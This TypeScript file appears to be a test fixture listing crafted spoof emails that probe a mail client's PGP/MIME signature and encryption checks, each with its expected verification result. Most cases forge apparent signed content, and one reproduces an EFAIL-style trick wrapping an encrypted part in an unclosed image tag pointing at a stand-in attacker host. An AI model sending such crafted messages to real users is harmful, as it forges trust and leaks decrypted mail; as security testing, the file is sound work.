import { entity, file, multipart } from '../../../support/interop/mail/entity';
import {
  evil,
  evilHtml,
  head,
  mixed,
  type Spoof,
  sealedMail,
  signaturePart,
  signedByAlice,
  signedByMallory,
  signedOf,
  truth,
} from './spoof';
import { EVIL, TRUE_WORDS } from './stage';

const verified = { ends: 'verified', sealed: 'not-sealed' } as const;

export const structureSpoofs: readonly Spoof[] = [
  {
    what: 'words before the signed part',
    ...verified,
    make: async (stage) => mixed([evil, await signedByAlice(stage)]),
  },
  {
    what: 'words behind the signed part',
    ...verified,
    make: async (stage) => mixed([await signedByAlice(stage), evil]),
  },
  {
    what: 'HTML as the better alternative to the signed part',
    ...verified,
    make: async (stage) => mixed([await signedByAlice(stage), evilHtml], head(), 'multipart/alternative'),
  },
  {
    what: 'HTML as the root, the signed part as its picture',
    ...verified,
    make: async (stage) => mixed([evilHtml, await signedByAlice(stage)], head(), 'multipart/related'),
  },
  {
    what: 'a file beside the signed part',
    ...verified,
    make: async (stage) => mixed([await signedByAlice(stage), file('invoice.txt', EVIL)]),
  },
  {
    what: 'a third part inside multipart/signed',
    ...verified,
    make: async ({ alice }) => signedOf([truth, signaturePart(await alice.detach(truth)), evil], head()),
  },
  {
    what: 'words before and behind the delimiters',
    ...verified,
    make: async (stage) =>
      Buffer.concat([
        Buffer.from((await signedByAlice(stage, head())).toString().replace('\r\n\r\n', `\r\n\r\n${EVIL}\r\n`)),
        Buffer.from(`\r\n${EVIL}\r\n`),
      ]),
  },
  {
    what: 'the signature in the first place',
    ends: 'none',
    make: async ({ alice }) => signedOf([signaturePart(await alice.detach(truth)), evil, truth], head()),
  },
  {
    what: 'words in the first place, the signed ones in the third',
    ends: 'invalid',
    make: async ({ alice }) => signedOf([evil, signaturePart(await alice.detach(truth)), truth], head()),
  },
  {
    what: "Alice's signature over other words",
    ends: 'invalid',
    make: async ({ alice }) => signedOf([evil, signaturePart(await alice.detach(truth))], head()),
  },
  {
    what: "Alice's signed mail as an attached message",
    ends: 'none',
    make: async (stage) => mixed([evil, entity(['Content-Type: message/rfc822'], await signedByAlice(stage, head()))]),
  },
  {
    what: "Alice's signed mail inside Mallory's signature",
    ends: 'other-address',
    make: async (stage) => {
      const inner = mixed([evil, await signedByAlice(stage)], []);
      return signedOf([inner, signaturePart(await stage.mallory.detach(inner))], head(), 'outer');
    },
  },
  {
    what: "two signed parts, Mallory's first",
    ends: 'other-address',
    make: async (stage) => mixed([await signedByMallory(stage), await signedByAlice(stage)]),
  },
  {
    what: "two signed parts, Alice's first",
    ...verified,
    make: async (stage) =>
      mixed([
        await signedByAlice(stage),
        signedOf([evil, signaturePart(await stage.mallory.detach(evil))], [], 'second'),
      ]),
  },
  {
    what: 'two signatures in one block, one of them sound',
    ends: 'invalid',
    make: async ({ alice, mallory }) => {
      const block = `${await alice.detach(truth)}`;
      const both = Buffer.concat(
        [block, await mallory.detach(evil)].map((armored) =>
          Buffer.from(armored.split('\n\n')[1]?.split('\n=')[0]?.split('\n-----')[0] ?? '', 'base64'),
        ),
      );
      return signedOf(
        [
          evil,
          entity(
            ['Content-Type: application/pgp-signature', 'Content-Transfer-Encoding: base64'],
            both.toString('base64'),
          ),
        ],
        head(),
      );
    },
  },
  {
    what: 'a second Content-Type that shows HTML',
    ...verified,
    make: async (stage) =>
      signedByAlice(stage, head(undefined, ['X: y'])).then((mail) =>
        Buffer.from(mail.toString().replace('\r\n\r\n', `\r\nContent-Type: text/html\r\n\r\n<p>${EVIL}</p>`)),
      ),
  },
  {
    what: 'a boundary used twice',
    ends: 'none',
    make: async (stage) =>
      multipart('multipart/mixed', [evil, await signedByAlice(stage)], { headers: head(), boundary: 'signed' }),
  },
  {
    what: 'words beside the signed part inside an unsigned seal',
    ends: 'none',
    sealed: 'sealed',
    make: async (stage) => sealedMail(await stage.mallory.seal(mixed([evil, await signedByAlice(stage)], []), false)),
  },
  {
    what: "Alice's signed mail as a file inside Mallory's seal",
    ends: 'other-address',
    sealed: 'sealed',
    make: async (stage) =>
      sealedMail(
        await stage.mallory.seal(
          mixed([evil, entity(['Content-Type: message/rfc822'], await signedByAlice(stage, head()))], []),
        ),
      ),
  },
  {
    what: 'words beside a sealed part',
    ends: 'verified',
    sealed: 'partial',
    make: async ({ alice }) => mixed([evil, sealedMail(await alice.seal(truth), [])]),
  },
  {
    what: 'an open picture address around a sealed part (EFAIL)',
    ends: 'verified',
    sealed: 'partial',
    make: async ({ alice }) => {
      const html = (text: string) => entity(['Content-Type: text/html'], text);
      return mixed([html(`${EVIL}<img src="http://evil.test/`), sealedMail(await alice.seal(truth), []), html('">')]);
    },
  },
  {
    what: 'a third part in multipart/encrypted',
    ends: 'verified',
    sealed: 'partial',
    make: async ({ alice }) =>
      multipart(
        'multipart/encrypted; protocol="application/pgp-encrypted"',
        [
          entity(['Content-Type: application/pgp-encrypted'], 'Version: 1'),
          entity(['Content-Type: application/octet-stream'], await alice.seal(truth)),
          evil,
        ],
        { headers: head() },
      ),
  },
  {
    what: 'multipart/encrypted that is only signed',
    ...verified,
    make: async ({ alice }) => sealedMail(await alice.wrap(truth)),
  },
  {
    what: 'a protected subject in a part that is not the root',
    ...verified,
    make: async ({ alice }) => {
      const nested = multipart(
        'multipart/mixed',
        [entity([`Subject: ${EVIL}`, 'Content-Type: text/plain; hp="clear"; protected-headers="v1"'], TRUE_WORDS)],
        { boundary: 'in' },
      );
      return signedOf([nested, signaturePart(await alice.detach(nested))], head());
    },
  },
  {
    what: 'another subject outside of a signed mail',
    ...verified,
    make: async (stage) => signedByAlice(stage, ['From: alice@lab.test', `Subject: ${EVIL}`]),
  },
  {
    what: 'words that imitate our own status',
    ends: 'none',
    make: async () => Buffer.from(`${head().join('\r\n')}\r\n\r\nSealed.\r\nSigned by alice, verified.\r\n${EVIL}\r\n`),
  },
];
